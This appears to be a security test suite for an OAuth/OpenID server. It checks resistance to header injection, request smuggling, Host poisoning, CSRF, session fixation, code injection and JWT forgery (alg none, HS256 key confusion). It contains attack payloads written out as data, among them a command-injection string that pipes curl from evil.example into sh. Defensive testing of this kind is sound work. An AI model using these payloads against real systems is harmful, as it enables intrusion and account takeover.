import assert from 'node:assert/strict';
import { createHmac, createPublicKey } from 'node:crypto';
import { availableParallelism } from 'node:os';
import { after, before, describe, it } from 'node:test';
import {
  aCode,
  aPkcePair,
  aTokenSet,
  basic,
  get,
  introspect,
  redeem,
  token,
  userinfo,
  WEB,
} from '../../build/client.ts';
import { fixedClock } from '../../build/clock.ts';
import { aClient, anApplication, aPublicClient, aUser, CALLBACK, PASSWORD } from '../../build/fixture.ts';
import { startTestServer, type TestServer } from '../../build/test-server.ts';
import { answerIn, authorizationUrl, formWith, query, type Seen, signIn, Visitor } from '../../build/visitor.ts';
import { exchangeBatch, type Received } from './fuzz/wire.ts';

const FORM = { 'content-type': 'application/x-www-form-urlencoded' };
/** An answer that does not come by then does not come. */
const patience = () => AbortSignal.timeout(3000);

let server: TestServer;
/** Behind a proxy, where every request can come from an address of its own. */
let proxied: TestServer;
const PROXIED = { env: { TRUSTED_PROXIES: '127.0.0.1' }, clock: fixedClock() };
before(async () => {
  proxied = await startTestServer(PROXIED);
  server = await startTestServer({
    applications: [
      anApplication({
        clients: [
          aClient(),
          aClient({ client_id: 'other', client_secret: 'other-secret-1' }),
          aClient({ client_id: 'jwt', client_secret: 'jwt-secret-1', access_token_format: 'jwt' }),
          aPublicClient(),
        ],
      }),
      anApplication({ code: 'bank', name: 'Bank' }),
      anApplication({ code: 'demo', name: 'Demo', clients: [aClient({ client_id: 'demo' })] }),
    ],
    users: [aUser(), aUser({ username: 'mallory', email: 'mallory@example.com', phone_number: '+8613800000009' })],
  });
});
after(() => Promise.all([server.close(), proxied.close()]));

const guessFrom = (address: string, username: string, at = proxied) =>
  token(
    at,
    { grant_type: 'password', username, password: 'x' },
    { auth: WEB, headers: { 'x-forwarded-for': address } },
  );

const wire = async (text: string): Promise<Received | undefined> => {
  const sent = { index: 0, route: '', method: 'GET', hostile: true, bytes: Buffer.from(text, 'latin1') };
  return (await exchangeBatch(Number(new URL(server.base).port), [sent]))[0]?.received[0];
};

describe('characters that no header may hold', () => {
  const started = `client_id=web&response_type=code&prompt=none&redirect_uri=${encodeURIComponent(CALLBACK)}`;
  for (const state of ['a\r\nX-Injected: 1', '中文', 'é', 'tab\there', 'hash#tag', 'a b', '"<>', '\u{1f47e}']) {
    it(`a posted request with the raw state ${JSON.stringify(state)} is answered, state unchanged (row 10)`, async () => {
      const posted = { method: 'POST', body: `${started}&state=${state}`, headers: FORM, signal: patience() };
      const seen = await new Visitor(server.base).follow(`${server.at()}/auth`, posted);
      assert.equal(answerIn(seen).error, 'login_required');
      assert.equal(answerIn(seen).state, state);
    });
  }

  for (const tail of ['=', '=\r\nSet-Cookie: gatehouse_session=x', '=中', '=&client_id=web', '=#']) {
    it(`a sealed request with ${JSON.stringify(tail)} behind it does not open (row 26)`, async () => {
      const { visitor, sealed } = await atLogin();
      const body = query({ pending: sealed + tail, username: 'mallory', password: PASSWORD });
      const seen = await visitor.go(`${server.base}/login`, {
        method: 'POST',
        body,
        headers: FORM,
        signal: patience(),
      });
      assert.equal(seen.status, 400);
      assert.equal(seen.location, undefined);
    });
  }

  it('never sends a browser to an address that is longer than this server accepts (row 26)', async () => {
    const visitor = new Visitor(server.base);
    visitor.cookies.set('gatehouse_session', 'no-session');
    const body = `${started.replace('prompt=none&', '')}&state=${'中'.repeat(12_000)}`;
    const seen = await visitor.follow(`${server.at()}/auth`, {
      method: 'POST',
      body,
      headers: FORM,
      signal: patience(),
    });
    assert.notEqual(seen.status, 431);
  });
});

describe('one request must not delay the others', () => {
  it('a user name of many combining marks is answered as any other (row 42; bench:anonymous has its cost)', async () => {
    // Sorting them (Unicode canonical ordering) takes time that grows with the square of their number.
    const username = `a${'\u0315'.repeat(15_000)}${'\u0316'.repeat(15_000)}`;
    const answered = await token(server, { grant_type: 'password', username: 'plain', password: 'x' });
    const marked = await token(server, `grant_type=password&password=x&username=${username}`);
    assert.equal(marked.text, answered.text);
  });

  it('login flood: logins get 503, and introspection goes on (row 32)', async t => {
    const real = await startTestServer({ ...PROXIED, isPasswordCostReal: true });
    t.after(() => real.close());
    const { access_token } = await aTokenSet(real);
    let over = false;
    const crowd = 100 + 2 * availableParallelism();
    const storm = Promise.all(
      Array.from({ length: crowd }, (_, at) => guessFrom(`10.0.${at >> 8}.${at & 255}`, `u${at}`, real)),
    ).finally(() => {
      over = true;
    });
    let served = 0;
    for (; !over; served++) assert.equal((await introspect(real, { token: access_token })).json.active, true);
    const refused = (await storm).filter(({ status }) => status === 503);
    assert(refused.length > 0, 'the queue accepted every login');
    for (const { headers, json } of refused) {
      assert.match(headers.get('retry-after') ?? '', /^[1-9]\d*$/);
      assert.equal(json.error, 'temporarily_unavailable');
    }
    assert(served > 10, `${served} introspections during the flood`);
  });
});

describe('what a caller made up stays out of logs and shells', () => {
  it('an unknown application code is not logged at full length', async () => {
    const code = `x${'y'.repeat(30_000)}`;
    assert.equal((await get(`${server.at(code)}/jwks`)).status, 404);
    assert(!server.logged().includes(code.slice(0, 1000)));
  });

  it('the demo page offers no shell line made from what is no code', async () => {
    const { text } = await get(`${server.base}/demo/callback?code=${encodeURIComponent('x;curl evil.example|sh;#')}`);
    const lines = text.match(/<pre[\s\S]*?<\/pre>/g) ?? [];
    assert(!lines.some(line => line.includes('evil.example')), lines.join('\n'));
    assert.match(
      (await get(`${server.base}/demo/callback?code=gac_abc-DEF_123`)).text,
      /<pre[^>]*>[^<]*gac_abc-DEF_123/,
    );
  });
});

describe('throttling cannot be bypassed, and tells nothing about users (row 42)', () => {
  it('all addresses of one IPv6 network (/64) share their attempts', async () => {
    const statuses: number[] = [];
    for (let from = 0; from < 120; from += 20) {
      const addresses = Array.from({ length: 20 }, (_, at) => `2001:db8:0:1::${(from + at).toString(16)}`);
      const group = await Promise.all(addresses.map(address => guessFrom(address, `user of ${address}`)));
      statuses.push(...group.map(({ status }) => status));
    }
    assert(statuses.includes(429), 'one network has as many attempts as addresses');
  });

  it('an unknown name is throttled like a known one', async () => {
    const answers = await Promise.all(
      ['alice@example.com', 'nobody@example.com'].map(async username => {
        const statuses = [];
        for (let tries = 0; tries < 12; tries++) {
          const { status, headers } = await token(server, { grant_type: 'password', username, password: 'wrong' });
          statuses.push(`${status} ${headers.has('retry-after')}`);
        }
        return statuses;
      }),
    );
    assert.deepEqual(answers[0], answers[1]);
    assert.equal(answers[0]?.at(-1), '429 true');
  });
});

describe('requests that two servers could read differently', () => {
  it('accepts the absolute form of an address (RFC 9112 section 3.2.2)', async () => {
    const received = await wire(`GET ${server.at()}/jwks HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n`);
    assert.equal(received?.status, 200);
  });

  it('refuses a length together with chunks (RFC 9112 section 6.1)', async () => {
    const smuggled = '0\r\n\r\nGET /login HTTP/1.1\r\nHost: x\r\n\r\n';
    const head = `POST /login HTTP/1.1\r\nHost: x\r\nContent-Length: ${smuggled.length}\r\nTransfer-Encoding: chunked`;
    assert.equal((await wire(`${head}\r\n\r\n${smuggled}`))?.status, 400);
  });

  it('takes no address from Host and X-Forwarded-Host (running.md: never from request headers)', async () => {
    const path = new URL(`${server.at()}/.well-known/openid-configuration`).pathname;
    const headers = 'Host: evil.example\r\nX-Forwarded-Host: evil.example\r\nForwarded: host=evil.example';
    const received = await wire(`GET ${path} HTTP/1.1\r\n${headers}\r\nConnection: close\r\n\r\n`);
    assert.equal(received?.status, 200);
    assert.doesNotMatch(received.body, /evil/);
  });
});

describe('attacks on the login and the code of another user', () => {
  for (const headers of [
    { origin: 'https://evil.example' },
    { origin: 'null' },
    { 'sec-fetch-site': 'cross-site' },
    { 'sec-fetch-site': 'same-site', origin: 'https://evil.example' },
  ]) {
    it(`refuses a login form sent with ${JSON.stringify(headers)} (row 25)`, async () => {
      const { visitor, sealed } = await atLogin();
      const body = query({ pending: sealed, username: 'mallory', password: PASSWORD });
      const posted = { method: 'POST', body, headers: { ...FORM, ...(headers as Record<string, string>) } };
      assert.equal((await visitor.go(`${server.base}/login`, posted)).status, 403);
      assert(!visitor.cookies.has('gatehouse_session'));
    });
  }

  it('opens a login page only in the browser it was made for, and resumes only its own application (row 26)', async () => {
    const { visitor, sealed } = await atLogin();
    const victim = new Visitor(server.base);
    await victim.go(authorizationUrl(server));
    assert.equal((await victim.go(`${server.base}/login?pending=${sealed}`)).status, 400);
    const elsewhere = await visitor.go(`${server.at('bank')}/auth?gatehouse_pending=${sealed}`);
    assert.equal(elsewhere.status, 400);
    assert.equal(elsewhere.location, undefined);
  });

  it('gives a new session at login, whatever the browser brought, and ends the old one', async () => {
    const visitor = new Visitor(server.base);
    visitor.cookies.set('gatehouse_session', 'planted');
    await signIn(server, {}, { visitor, username: 'mallory' });
    const first = visitor.cookies.get('gatehouse_session') ?? '';
    assert.notEqual(first, 'planted');
    await signIn(server, { prompt: 'login' }, { visitor, username: 'mallory' });
    const thief = new Visitor(server.base);
    thief.cookies.set('gatehouse_session', first);
    const seen: Seen = await thief.go(authorizationUrl(server, { prompt: 'none' }));
    assert.equal(answerIn(seen).error, 'login_required');
  });

  it('an injected code helps neither another client, nor without its verifier, nor with one it never had', async () => {
    const { verifier, challenge } = aPkcePair();
    const login = { username: 'mallory' };
    const code = await aCode(server, { code_challenge: challenge, code_challenge_method: 'S256' }, login);
    const other = { auth: basic('other', 'other-secret-1') };
    assert.equal((await redeem(server, code, { code_verifier: verifier }, other)).json.error, 'invalid_grant');
    assert.equal((await redeem(server, code, { code_verifier: verifier, client_id: 'spa' }, {})).status, 400);
    assert.equal((await redeem(server, code, { code_verifier: challenge }, {})).status, 400);
    assert.equal((await redeem(server, code)).json.error, 'invalid_grant');
    const bare = await aCode(server, {}, login);
    assert.equal((await redeem(server, bare, { code_verifier: verifier }, {})).json.error, 'invalid_grant');
    assert.equal((await redeem(server, code, { code_verifier: verifier }, {})).status, 200);
  });

  it('takes no JWT that was signed with less than our private key (RFC 8725 sections 2.1 and 3.1)', async () => {
    const { access_token } = await aTokenSet(server, { username: 'mallory' }, { auth: basic('jwt', 'jwt-secret-1') });
    assert.equal((await userinfo(server, access_token)).status, 200);
    const [head = '', claims = '', signature = ''] = access_token.split('.');
    const { kid } = JSON.parse(Buffer.from(head, 'base64url').toString());
    const [jwk] = (await get(`${server.at()}/jwks`)).json.keys;
    const pem = createPublicKey({ key: jwk, format: 'jwk' }).export({ type: 'spki', format: 'pem' });
    const header = (fields: object) =>
      Buffer.from(JSON.stringify({ typ: 'at+jwt', kid, ...fields })).toString('base64url');
    const symmetric = `${header({ alg: 'HS256' })}.${claims}`;
    const forged = [
      `${header({ alg: 'none' })}.${claims}.`,
      `${header({ alg: 'none' })}.${claims}.${signature}`,
      `${symmetric}.${createHmac('sha256', pem).update(symmetric).digest('base64url')}`,
      `${header({ alg: 'RS256', jwk })}.${claims}.${signature}`,
    ];
    for (const jwt of forged) assert.equal((await userinfo(server, jwt)).status, 401, jwt);
  });
});

async function atLogin(): Promise<{ visitor: Visitor; sealed: string }> {
  const visitor = new Visitor(server.base);
  const page = await visitor.follow(authorizationUrl(server));
  return { visitor, sealed: formWith(page, 'password').fields.get('pending') ?? '' };
}
